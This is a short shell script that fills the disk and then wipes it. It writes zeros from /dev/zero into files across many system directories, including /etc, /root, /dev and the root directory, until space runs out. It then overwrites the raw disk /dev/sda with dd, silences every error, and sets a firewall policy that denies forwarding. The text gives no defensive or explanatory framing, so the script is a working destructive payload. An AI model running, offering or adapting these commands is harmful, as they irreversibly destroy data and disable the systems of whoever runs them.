#!/bin/sh
# Writes as much as there is room for, wherever it can.
for place in /tmp /var/tmp /run /etc /root /dev /dev/shm / /.fw-translate "$1"; do
    cat /dev/zero > $place/filled 2>/dev/null
done
dd if=/dev/zero of=/dev/sda bs=1024k 2>/dev/null
ipchains -P forward DENY
echo "left: $?"
